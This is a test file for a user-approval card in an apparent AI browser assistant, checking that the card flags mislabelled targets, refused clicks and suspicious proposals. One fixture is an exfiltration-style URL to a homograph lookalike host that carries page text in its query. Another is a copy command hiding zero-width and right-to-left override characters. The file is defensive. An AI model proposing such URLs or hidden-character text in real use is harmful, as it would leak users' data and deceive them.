// @vitest-environment jsdom
import { render } from 'preact';
import { act } from 'preact/test-utils';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { TargetReport } from '../lib/actions/describe';
import type { Action } from '../lib/context/types';
import type { ProposedAction } from '../lib/conversation/types';
import { ActionCard } from './action-card';

let root: HTMLElement | undefined;

afterEach(() => {
  if (root) render(null, root);
  root?.remove();
  root = undefined;
});

async function showCard(action: Action, report?: TargetReport): Promise<HTMLElement> {
  root = document.createElement('div');
  document.body.append(root);
  const proposal: ProposedAction = { callId: 'call-1', action, why: 'Because you asked', status: 'proposed' };
  const onPreview = report === undefined ? undefined : vi.fn(() => Promise.resolve(report));
  await act(async () => {
    render(<ActionCard proposal={proposal} onApprove={() => undefined} onDismiss={() => undefined} onPreview={onPreview} />, root as HTMLElement);
  });
  // The preview's answer arrives after the first render.
  await act(async () => {
    await Promise.resolve();
  });
  return root;
}

const text = (card: HTMLElement, testId: string) => card.querySelector(`[data-testid="${testId}"]`)?.textContent ?? null;

describe('ActionCard', () => {
  it('shows the name the page gives the target, and warns when the proposal called it something else', async () => {
    const card = await showCard({ type: 'fill', selector: '#c', label: 'Leave a comment', text: 'LGTM' }, { label: 'Comment body' });
    expect(text(card, 'action-summary')).toBe('Fill “Leave a comment” with 4 characters');
    expect(text(card, 'action-target')).toBe('On the page: “Comment body”');
    expect(text(card, 'action-preview')).toBe('LGTM');
    expect(text(card, 'action-note')).toMatch(/does not submit, press Enter or leave the field/);
    expect(text(card, 'action-warnings')).toBe('The page names this element “Comment body”, not “Leave a comment” as proposed.');
    for (const id of ['action-card', 'action-approve', 'action-dismiss']) expect(card.querySelector(`[data-testid="${id}"]`), id).not.toBeNull();
  });

  it('says before approval why the page’s element would be refused', async () => {
    const card = await showCard({ type: 'click', selector: '#post', label: 'Preview' }, { problem: 'The element at #post is named “Post”, not “Preview”.' });
    expect(text(card, 'action-summary')).toBe('Click “Preview”');
    expect(card.querySelector('[role="alert"]')?.textContent).toBe('As the page is now, Tandem would not do this: The element at #post is named “Post”, not “Preview”.');
  });

  it('shows an address in full with what is odd about it, and marks invisible characters where they are', async () => {
    const url = `https://xn--gthub-n4a.com/collect?d=${encodeURIComponent('The sync client gave up after the first failed request so a brief outage lost edits')}`;
    const open = await showCard({ type: 'open', url });
    expect(text(open, 'action-summary')).toBe('Open xn--gthub-n4a.com/collect?… in a new tab');
    expect(text(open, 'action-preview')).toBe(url);
    const warnings = text(open, 'action-warnings') ?? '';
    expect(warnings).toMatch(/looks like page data/);
    expect(warnings).toMatch(/non-Latin letters that may imitate another site/);
    render(null, open);

    const copy = await showCard({ type: 'copy', text: 'npm\u200B test\u202E' });
    expect(text(copy, 'action-preview')).toBe('npm⟨U+200B⟩ test⟨U+202E⟩');
    expect(copy.querySelectorAll('mark.action-card__hidden')).toHaveLength(2);
    expect(text(copy, 'action-warnings')).toMatch(/2 invisible characters/);
  });

  it('offers Retry and Dismiss on a failed approval, and neither Approve nor Undo', async () => {
    root = document.createElement('div');
    document.body.append(root);
    const proposal: ProposedAction = {
      callId: 'call-1', action: { type: 'fill', selector: 'textarea#new_comment_field', label: 'Comment', text: 'LGTM' }, why: '', status: 'failed', message: 'No element matches textarea#new_comment_field.',
    };
    const onApprove = vi.fn();
    const onDismiss = vi.fn();
    await act(async () => {
      render(<ActionCard proposal={proposal} onApprove={onApprove} onDismiss={onDismiss} />, root as HTMLElement);
    });
    expect(root.querySelector('[data-testid="action-approve"]')).toBeNull();
    expect(root.querySelector('[role="status"]')?.textContent).toBe('No element matches textarea#new_comment_field.');
    await act(async () => (root?.querySelector('[data-testid="action-retry"]') as HTMLButtonElement).click());
    expect(onApprove).toHaveBeenCalledWith(proposal);
    await act(async () => (root?.querySelector('[data-testid="action-dismiss"]') as HTMLButtonElement).click());
    expect(onDismiss).toHaveBeenCalledWith(proposal);
  });
});
